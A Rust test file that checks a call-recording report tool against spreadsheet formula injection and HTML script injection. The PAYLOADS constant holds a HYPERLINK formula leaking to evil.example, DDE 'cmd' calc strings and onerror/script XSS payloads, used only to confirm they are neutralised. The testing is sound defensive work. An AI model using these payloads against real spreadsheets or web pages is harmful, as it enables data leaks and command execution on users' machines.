//! Caller- and model-controlled text reaches the reports: formula payloads
//! put into every text field the recorder writes (transcript text,
//! function names, arguments, results, intents, session ids, directory
//! names) never open as a live formula from a CSV, and the HTML pages show
//! them (and HTML payloads) as text in a real browser.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use common::{copy_samples, edit_json, path_str, run};
use serde_json::{json, Value};

/// What a spreadsheet runs: text that begins with one of these.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

const PAYLOADS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=\"document.title='pwned'\">",
    "=1+1<script>document.title='pwned'</script>",
];

/// A copy of the samples with a payload in every text field, and three
/// recordings renamed so their directory names (and session ids) start
/// with a trigger.
fn poisoned_store(dir: &Path) -> PathBuf {
    let root = copy_samples(dir);
    let mut recs: Vec<PathBuf> = fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.join("transcript.json").exists())
        .collect();
    recs.sort();
    let mut spoken = 0;
    let mut k = 0;
    let mut next = || {
        k += 1;
        PAYLOADS[k % PAYLOADS.len()]
    };
    for (i, rec) in recs.iter().enumerate() {
        let name = rec.file_name().unwrap().to_string_lossy().into_owned();
        let (_, stamp) = name.split_at(name.len() - "_20241202_090541".len());
        let session = match i {
            0 => "=1+1".to_string(),
            1 => "@SUM(A1)".to_string(),
            2 => "+cmd".to_string(),
            _ => name[..name.len() - stamp.len()].to_string(),
        };
        let fields = |v: &mut Value, next: &mut dyn FnMut() -> &'static str| {
            v["session_id"] = json!(session);
            v["conversation_id"] = json!(next());
        };
        // A sample cut off mid-write stays as it is (its name still changes).
        let parses = |f: &str| {
            fs::read(rec.join(f))
                .ok()
                .and_then(|b| serde_json::from_slice::<Value>(&b).ok())
                .is_some()
        };
        if !parses("transcript.json") || !parses("call_metadata.json") {
            fs::rename(rec, root.join(format!("{session}{stamp}"))).unwrap();
            continue;
        }
        edit_json(&rec.join("transcript.json"), |v| {
            fields(v, &mut next);
            // Every payload through the transcript, in turn.
            for e in v["entries"].as_array_mut().unwrap() {
                e["text"] = json!(PAYLOADS[spoken % PAYLOADS.len()]);
                spoken += 1;
            }
        });
        edit_json(&rec.join("call_metadata.json"), |v| {
            fields(v, &mut next);
            for f in v["function_calls"].as_array_mut().into_iter().flatten() {
                f["function_name"] = json!(next());
                f["call_id"] = json!(next());
                f["arguments"] = json!({ "intent": next(), "note": next() });
                f["result"] = json!({ "status": next(), "intent": next() });
            }
        });
        if parses("session_events.json") {
            edit_json(&rec.join("session_events.json"), |v| {
                fields(v, &mut next);
                for e in v["events"].as_array_mut().into_iter().flatten() {
                    let data = &mut e["data"];
                    for k in [
                        "conversation_id",
                        "recording_dir",
                        "function_name",
                        "call_id",
                    ] {
                        if data.get(k).is_some() {
                            data[k] = json!(next());
                        }
                    }
                    if data.get("arguments").is_some() {
                        data["arguments"] = json!({ "intent": next() });
                    }
                }
            });
        }
        fs::rename(rec, root.join(format!("{session}{stamp}"))).unwrap();
    }
    root
}

/// Every data cell of every CSV under `dir`, with where it is.
fn cells(dir: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_none_or(|x| x != "csv") {
            continue;
        }
        let mut r = csv::Reader::from_path(&p).unwrap();
        let header = r.headers().unwrap().clone();
        for row in r.records() {
            for (col, cell) in header.iter().zip(row.unwrap().iter()) {
                let at = format!("{}:{col}", p.file_name().unwrap().to_string_lossy());
                out.push((at, cell.to_string()));
            }
        }
    }
    out
}

/// Whether a spreadsheet would run this cell: it begins with a trigger and
/// is not a plain number.
fn live(cell: &str) -> bool {
    cell.starts_with(TRIGGERS) && cell.trim().parse::<f64>().is_err()
}

#[test]
fn no_csv_cell_is_a_live_formula_and_csv_raw_keeps_the_bytes() {
    let tmp = tempfile::tempdir().unwrap();
    let root = poisoned_store(tmp.path());
    let out = tmp.path().join("out");
    let (code, _, err) = run(&["run", path_str(&root), "-o", path_str(&out)]);
    assert!(code == 0 || code == 1, "{err}");
    let all = cells(&out);
    let bad: Vec<_> = all.iter().filter(|(_, c)| live(c)).collect();
    assert!(bad.is_empty(), "live formulas: {bad:#?}");
    // The payloads are there, as text: in the transcript, the intents, the
    // recording names, the function calls.
    for (file, want) in [
        ("utterances.csv", "'"),
        ("calls.csv", "'=1+1_20241"),
        ("calls.csv", "'@SUM(A1)_"),
        ("calls.csv", "'+cmd_"),
        ("intents.csv", "'"),
    ] {
        assert!(
            all.iter().any(|(at, c)| at.starts_with(file)
                && c.starts_with(want)
                && c.len() > 1
                && c[1..].starts_with(TRIGGERS)),
            "{file}: no cell like {want:?}"
        );
    }
    let hyperlink = format!("'{}", PAYLOADS[0]);
    assert!(
        all.iter().any(|(_, c)| *c == hyperlink),
        "no cell holds {hyperlink:?}"
    );
    // Numbers are never altered.
    assert!(all.iter().filter(|(_, c)| c.parse::<f64>().is_ok()).count() > 50);
    let quoted_numbers: Vec<_> = all
        .iter()
        .filter(|(_, c)| {
            c.strip_prefix('\'')
                .is_some_and(|n| n.parse::<f64>().is_ok())
        })
        .collect();
    assert!(quoted_numbers.is_empty(), "{quoted_numbers:?}");

    // --csv-raw: the same bytes as the JSON; the test above sees them.
    let raw = tmp.path().join("raw");
    let (code, _, err) = run(&["run", path_str(&root), "-o", path_str(&raw), "--csv-raw"]);
    assert!(code == 0 || code == 1, "{err}");
    let raw_cells = cells(&raw);
    for p in &PAYLOADS[..6] {
        assert!(
            raw_cells.iter().any(|(_, c)| c == p),
            "--csv-raw: {p:?} is not in any cell"
        );
    }
    let jsonl = fs::read_to_string(out.join("utterances.jsonl")).unwrap();
    assert!(jsonl.contains("\"text\":\"=HYPERLINK("), "JSON stays raw");
    let calls = fs::read_to_string(out.join("calls.jsonl")).unwrap();
    assert!(calls.contains("\"recording\":\"=1+1_"), "JSON stays raw");

    // The retention plan as CSV names recordings too.
    let policy = tmp.path().join("policy.toml");
    fs::write(
        &policy,
        "[[rule]]\nname = \"=old\"\nolder_than = \"30d\"\naction = \"delete\"\n\
         [[rule]]\nname = \"default\"\ndefault = true\naction = \"keep\"\n",
    )
    .unwrap();
    let (code, plan, err) = run(&[
        "prune",
        path_str(&root),
        "--policy",
        path_str(&policy),
        "--csv",
        "--now",
        "2030-01-01T00:00:00Z",
    ]);
    assert_eq!(code, 0, "{err}");
    let mut r = csv::Reader::from_reader(plan.as_bytes());
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert!(rows.len() >= 6);
    for row in &rows {
        for c in row {
            assert!(!live(c), "prune --csv: {c:?}");
        }
    }
    assert!(rows
        .iter()
        .any(|r| &r[0] == "'=1+1_20241202_090541" || r[0].starts_with("'=1+1_")));
}

#[test]
fn the_pages_show_the_payloads_as_text_in_a_browser() {
    let Some((chromium, script)) =
        common::browser("the_pages_show_the_payloads_as_text_in_a_browser")
    else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let root = poisoned_store(tmp.path());
    let out = tmp.path().join("out");
    let (code, _, err) = run(&["run", path_str(&root), "-o", path_str(&out)]);
    assert!(code == 0 || code == 1, "{err}");
    let pages: Vec<PathBuf> = std::iter::once(out.join("report.html"))
        .chain(
            fs::read_dir(out.join("calls"))
                .unwrap()
                .map(|e| e.unwrap().path()),
        )
        .collect();
    let spec = json!({
        "chromium": chromium,
        "pages": pages.iter().map(|p| json!({
            "file": p, "body": true,
            "count": ["img", "[onerror]", "script:not([type])"]
        })).collect::<Vec<_>>()
    });
    let seen = common::inspect(&script, &spec, tmp.path());
    let mut body = String::new();
    for (p, s) in pages.iter().zip(seen["pages"].as_array().unwrap()) {
        let at = p.display();
        assert_eq!(s["page_errors"], json!([]), "{at}");
        assert_eq!(s["requests"], json!([]), "{at}: a payload made a request");
        assert_ne!(s["title"], "pwned", "{at}: a payload ran");
        assert_eq!(s["counts"]["img"], 0, "{at}");
        assert_eq!(s["counts"]["[onerror]"], 0, "{at}");
        body.push_str(s["body_text"].as_str().unwrap());
    }
    for p in [
        "=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
        "<img src=x onerror=\"document.title='pwned'\">",
        "=1+1<script>document.title='pwned'</script>",
    ] {
        assert!(body.contains(p), "{p:?} is not shown as text");
    }
}
